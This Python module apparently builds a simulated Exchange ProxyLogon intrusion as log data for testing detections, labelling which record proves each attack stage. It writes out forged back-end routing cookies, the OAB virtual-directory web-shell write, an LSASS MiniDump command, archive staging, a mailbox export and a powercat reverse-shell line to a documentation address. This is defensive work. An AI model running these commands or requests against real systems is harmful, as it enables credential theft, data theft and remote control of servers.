"""The attack on a made-up server, step by step, each in every log that records it; and those who merely scan.

Nothing here works as an attack: where a web shell's body stood, there is inert text, and addresses are those reserved
for documentation. The order, the gaps, the change of user agents and the two host names follow a published real case.
What proves which step of the pack `exchange-2021` is noted beside it (`Scene.shows`): the ground truth.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tocsin.demo.daily_life import BROWSER
from tocsin.demo.scene import AUTODISCOVER, DAY, DOMAIN, INSTALLED, MAIL, Back, Command, Request, Scene, at
from tocsin.demo.windows import (
    FRONT_END,
    POWERSHELL,
    SYSMON,
    SYSTEM32,
    WORKER,
    WORKER_COMMAND,
    cmdlet,
    connection,
    file,
    image_load,
    name_lookup,
    plain,
    process,
    script_block,
    share,
)

STAGES = ("scanned", "attempted", "session", "enumerated", "wrote", "reached", "executed")
"""How far an attack can be told to go, in order."""

INERT = 'http://f/<script language="JScript" runat="server">function Page_Load(){/* inert demo text */}</script>'
ECP, OWA, BACK = "httpproxy/Ecp", "httpproxy/Owa", "iis-backend"
MANAGEMENT = "MSExchange Management"
_LIBRARY, _AUTODISCOVER_AGENT = "python-requests/2.25.1", "ExchangeServicesClient/0.0.0.0"
_DIRECTORY = "982d48c8-5d1e-4b6b-b431-53fd7ea40001"
_NAMES = (
    "RedirSuiteServerProxy",
    "errorFS",
    "ErrorAA",
    "OutlookEN",
    "zntwv",
    "fexppw",
    "getpp",
    "Err0r",
    "TimeoutLogout",
)


@dataclass(frozen=True, slots=True)
class Plot:
    """When it happens, from where, and under which names; the defaults are those of the demo."""

    first: int = at("2021-02-28T03:12:42.162Z")  # two days before the vulnerabilities were made public
    scanned: int = at("2021-03-04T17:20:11.071Z")
    wave: int = at("2021-03-06T17:27:44.124Z")  # scanners that ask for the names of web shells
    page: str = "supp0rt.aspx"
    script: str = "/ecp/y.js"
    attacker: str = "198.51.100.23"
    visitor: str = "203.0.113.151"
    canaries: tuple[str, str] = ("vT9pWq3kLU2mYb8sHr5xNc1dZe7gJa.", "Qm4fXs7nRt0wKc6vBz2yLp9hGd5jUe.")
    sites: tuple[str, ...] = (MAIL, AUTODISCOVER)


PLOT = Plot()
Act = Callable[[Scene, Plot, int, str, str], None]


def attack(scene: Scene, stage: str, plot: Plot = PLOT) -> None:
    """Put the attack into a scene, up to and with a stage."""
    reached = STAGES.index(stage)
    scan(scene, plot, answered=reached >= STAGES.index("reached"))
    for number, (site, canary) in enumerate(zip(plot.sites, plot.canaries, strict=False)):
        for act in _ACTS[:reached]:
            act(scene, plot, plot.first + number * 568_000, site, canary)
    if reached >= STAGES.index("reached"):
        visit(scene, plot, plot.first + 2 * DAY)
    if reached >= STAGES.index("executed"):
        command(scene, plot, plot.first + 2 * DAY + 190_000)


def scan(scene: Scene, plot: Plot = PLOT, *, answered: bool = False) -> None:
    """Put the scanners into a scene that every server saw; `answered`: the page one of them asks for is there."""
    time = plot.scanned
    scene.requests.append(
        Request(
            time,
            "Owa",
            "GET",
            "/owa/auth/x.js",
            "203.0.113.88",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
            500,
            anchor="ServerInfo~localhost/ecp/default.flt?",
            columns={
                "RoutingHint": "X-AnonResource-Backend-Cookie",
                "TargetServer": "localhost",
                "TargetServerVersion": "0.00.0003.000",
                "ErrorCode": "CrossRegion",
                "GenericInfo": "ProxyToDownLevel=True",
            },
        )
    )
    _shown(scene, "scanned", "scanned", time, "iis", OWA)
    tool = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"
    scene.requests.append(Request(time + 4 * DAY, "Ecp", "GET", tool, "203.0.113.140", "Mozilla/5.0 zgrab/0.x", 200))
    _shown(scene, "scanned", "scanned", time + 4 * DAY, "iis", ECP)
    names = [*(f"{name}.aspx" for name in _NAMES), plot.page]
    for number, name in enumerate(names):
        for copy, site in enumerate(plot.sites):
            there = answered and name == plot.page and plot.wave > plot.first
            moment = plot.wave + number * 610 + copy * 74
            stem = f"/owa/auth/{name}"
            scene.requests.append(
                Request(moment, "Owa", "GET", stem, "203.0.113.176", BROWSER, 200 if there else 302, site=site)
            )
            what = ("shell-reached", "foothold") if there else ("scanned", "scanned")
            _shown(scene, *what, moment, "iis", OWA)


def _shown(scene: Scene, step: str, stage: str, time: int, *logs: str) -> None:
    """Note that a record of this time in any of these logs proves a step."""
    for log in logs:
        scene.shows(step, stage, (log, time))


def _forge(
    scene: Scene, plot: Plot, time: int, site: str, path: str, status: int, *, agent: str = _LIBRARY, query: str = ""
) -> None:
    """Add a request whose cookie routes it to a path of the back end."""
    server = f"{scene.host.lower()}.{DOMAIN}"
    target = f"{path}?{query}#" if query else f"{path}?#"
    scene.requests.append(
        Request(
            time,
            "Ecp",
            "POST",
            plot.script,
            plot.attacker,
            agent,
            status,
            site=site,
            anchor=f"ServerInfo~a]@{server}:444{target}",
            back=Back(path, query, f"CORP\\{scene.host}$"),
            columns={
                "RoutingHint": "X-BEResource-Cookie",
                "TargetServer": server,
                "TargetServerVersion": "15.01.2106.000",
                "BackEndCookie": f"Server~a]@{server}:444{target}~1941962753~2021-03-28T03:22:42",
            },
        )
    )
    _shown(scene, "attempted", "attempted", time, ECP, *(() if status == 241 else ("iis",)))


def _attempted(scene: Scene, plot: Plot, time: int, site: str, canary: str) -> None:
    _forge(scene, plot, time, site, "/autodiscover/autodiscover.xml", 200, agent=_AUTODISCOVER_AGENT)


def _session(scene: Scene, plot: Plot, time: int, site: str, canary: str) -> None:
    _forge(scene, plot, time + 1_537, site, "/mapi/emsmdb/", 200)
    _forge(scene, plot, time + 4_048, site, "/ecp/proxyLogon.ecp", 241)
    _shown(scene, "session", "exploited", time + 1_537, ECP)
    _shown(scene, "session", "exploited", time + 4_048, ECP, "iis")


def _enumerated(scene: Scene, plot: Plot, time: int, site: str, canary: str) -> None:
    path = "/ecp/DDI/DDIService.svc/GetObject"
    query = f"msExchEcpCanary={canary}&schema=OABVirtualDirectory"
    _forge(scene, plot, time + 9_381, site, path, 200, query=query)
    scene.commands.append(
        Command(time + 9_227, f"{path}?{query}", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null")
    )
    _shown(scene, "enumerated", "exploited", time + 9_381, ECP, BACK)
    _shown(scene, "session", "exploited", time + 9_381, ECP)


def _wrote(scene: Scene, plot: Plot, time: int, site: str, canary: str) -> None:
    path = "/ecp/DDI/DDIService.svc/SetObject"
    user = f"{DOMAIN}/Users/Administrator"
    query = f"msExchEcpCanary={canary}&schema=OABVirtualDirectory"
    url = f"{path}?{query}"
    _forge(scene, plot, time + 11_880, site, path, 200, query=query)
    scene.commands.append(
        Command(time + 11_610, url, f"Set-OabVirtualDirectory.ExternalUrl='{INERT}'.Identity='{_DIRECTORY}'")
    )
    scene.events.append(
        cmdlet(
            time + 11_640, "Set-OabVirtualDirectory", f'-ExternalUrl "{INERT}" -Identity "OAB (Default Web Site)"', user
        )
    )
    reset = f"msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory"
    _forge(scene, plot, time + 14_197, site, path, 200, query=reset)
    identity = f"{scene.host}\\OAB (Default Web Site)"
    scene.events += [
        cmdlet(time + 13_900, "Remove-OabVirtualDirectory", f'-Force "True" -Identity "{identity}"', user),
        cmdlet(
            time + 16_650,
            "New-OabVirtualDirectory",
            f'-WebSiteName "Default Web Site" -Server "{scene.host}" -Path "{INSTALLED}\\FrontEnd\\HttpProxy\\OAB"',
            user,
        ),
        plain(
            time + 13_940,
            "Application",
            "MSExchange Front End HTTP Proxy",
            1002,
            ["Oab"],
            "[Oab] Application shutting down.",
        ),
        file(time + 13_700, "System", f"{FRONT_END}\\owa\\auth\\{plot.page}"),
        share(
            time + 13_700,
            f"{scene.host}$",
            "127.0.0.1",
            f"{FRONT_END[3:]}\\owa\\auth\\{plot.page}",
            "0x12019f",
            "%%1538 %%4416 %%4417",
        ),
    ]
    scene.commands.append(
        Command(
            time + 17_100,
            url,
            f"Set-OabVirtualDirectory.ExternalUrl=$null.Identity='{_DIRECTORY}'",
            "ADNoSuchObjectException",
        )
    )
    _wrote_shows(scene, time)


def _wrote_shows(scene: Scene, time: int) -> None:
    """Note what proves that the address was set, and that the reset wrote the file."""
    _shown(scene, "session", "exploited", time + 11_880, ECP)
    _shown(scene, "session", "exploited", time + 14_197, ECP)
    scripts = (("ecp", time + 11_610), (MANAGEMENT, time + 11_640), (ECP, time + 11_880), (BACK, time + 11_880))
    for log, moment in scripts:
        scene.shows("wrote", "exploited", (log, moment))
    _shown(scene, "wrote", "foothold", time + 14_197, ECP, BACK)
    for again in ((MANAGEMENT, time + 13_900), (MANAGEMENT, time + 16_650), ("Application", time + 13_940)):
        for script in (*scripts, (ECP, time + 14_197), (BACK, time + 14_197)):
            scene.shows("wrote", "foothold", again, script)
    for sure in (("ecp", time + 11_610), (ECP, time + 11_880), (ECP, time + 14_197)):
        scene.shows("enumerated", "exploited", ("ecp", time + 9_227), sure)
    for back in (time + 11_880, time + 14_197):
        scene.shows("enumerated", "exploited", ("ecp", time + 9_227), (BACK, back))
    scene.shows("file-dropped", "foothold", (SYSMON, time + 13_700))
    scene.shows("file-dropped", "foothold", ("Security", time + 13_700))


def visit(scene: Scene, plot: Plot, time: int) -> None:
    """Somebody else asks for the page two days later, and ASP.NET compiles it."""
    stem = f"/owa/auth/{plot.page}"
    for moment, took in ((time, 133), (time + 5 * 3_600_000, 31)):
        scene.requests.append(Request(moment, "Owa", "GET", stem, plot.visitor, BROWSER, 200, took=took))
        _shown(scene, "shell-reached", "foothold", moment, "iis", OWA)
    framework = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319"
    compiled = rf"{framework}\Temporary ASP.NET Files\owa\8e05b027\e164d61b\App_Web_kq2vbn1d"
    scene.events += [file(time + 60, WORKER, f"{compiled}.0.js"), file(time + 110, WORKER, f"{compiled}.dll")]
    compiler = rf"{framework}\cvtres.exe"
    worker = SYSTEM32 + r"inetsrv\w3wp.exe"
    line = "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86"
    scene.events += process(time + 90, scene.host, compiler, line, worker, WORKER_COMMAND)
    scene.shows("shell-reached", "foothold", (SYSMON, time + 60))
    scene.shows("shell-reached", "foothold", (SYSMON, time + 90))


def command(scene: Scene, plot: Plot, time: int) -> None:
    """Commands go through the page: a dump of LSASS into the web folder, an archive, a tool that calls out, mail."""
    worker, shell = SYSTEM32 + r"inetsrv\w3wp.exe", SYSTEM32 + "cmd.exe"
    dll, tool = SYSTEM32 + "rundll32.exe", SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
    web, data = r"C:\inetpub\wwwroot\aspnet_client", r"C:\ProgramData\pst"
    dump = rf"rundll32.exe C:\windows\system32\comsvcs.dll MiniDump 712 {web}\m.dmp full"
    mail = 'powershell -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest"'
    first = 30_000 + time // 1000 % 100_000 * 40
    asked = (
        ("cmd /c whoami&echo [S]&cd&echo [E]", shell),
        (f'cmd /c "{dump}"', shell),
        (rf'cmd /c "makecab {web}\m.dmp {web}\m.dmp.zip"', shell),
        (rf'cmd /c "7z a -t7z {data}\it.zip {data}"', shell),
        ("powershell -nop -w hidden -c inert", tool),
        (f'cmd /c "{mail}"', shell),
    )
    for number, (line, image) in enumerate(asked):
        moment = time + number * 41_000
        scene.requests.append(
            Request(moment, "Owa", "POST", f"/owa/auth/{plot.page}", plot.visitor, "antSword/v2.1", 200, took=2_100)
        )
        _shown(scene, "shell-reached", "foothold", moment, "iis", OWA)
        scene.events += process(moment + 30, scene.host, image, line, worker, WORKER_COMMAND, number=first + 4 * number)
        _shown(scene, "executed", "post-exploitation", moment + 30, SYSMON, "Security")
    children = (
        (1, 90, dll, dump, "credentials-dumped"),
        (2, 90, SYSTEM32 + "makecab.exe", rf"makecab {web}\m.dmp {web}\m.dmp.zip", "data-staged"),
        (3, 90, r"C:\ProgramData\7z.exe", rf"7z a -t7z {data}\it.zip {data}", "data-staged"),
        (5, 90, tool, mail, "mail-read"),
    )
    for number, after, image, line, step in children:
        moment = time + number * 41_000 + after
        scene.events += process(
            moment, scene.host, image, line, shell, number=first + 1_000 + 4 * number, parent_number=first + 4 * number
        )
        _shown(scene, step, "post-exploitation", moment, SYSMON, "Security")
    _command_shows(scene, time, first, dll, tool, rf"{web}\m.dmp")


def _command_shows(scene: Scene, time: int, first: int, dll: str, tool: str, dump: str) -> None:
    """Add what the commands leave besides processes, and note what proves what."""
    proof = "post-exploitation"
    _shown(scene, "credentials-dumped", proof, time + 41_030, SYSMON, "Security")
    for moment in (time + 3 * 41_000 + 30, time + 3 * 41_000 + 90):
        _shown(scene, "concealed", proof, moment, SYSMON, "Security")
    library, call, script = time + 41_120, time + 4 * 41_000 + 900, time + 5 * 41_000 + 1_900
    scene.events += [
        image_load(library, dll, first + 1_004, SYSTEM32 + "comsvcs.dll"),
        file(time + 41_400, dll, dump),
        name_lookup(call - 40, tool, first + 16, "files.corp-updates.example", "198.51.100.77"),
        connection(call, tool, first + 16, "198.51.100.77", 443),
        script_block(script, "powercat -c 198.51.100.77 -p 443 # inert demo text", ""),
    ]
    scene.shows("data-staged", proof, (SYSMON, time + 41_400))
    scene.shows("tools-fetched", proof, (SYSMON, call), (SYSMON, time + 4 * 41_000 + 30))
    for log in (SYSMON, "Security"):
        scene.shows("credentials-dumped", proof, (SYSMON, library), (log, time + 41_030))
        scene.shows("tools-fetched", proof, (POWERSHELL, script), (log, time + 5 * 41_000 + 30))


_ACTS: tuple[Act, ...] = (_attempted, _session, _enumerated, _wrote)
"""What is done through each name of the server; the stages after are done once, in `attack`."""
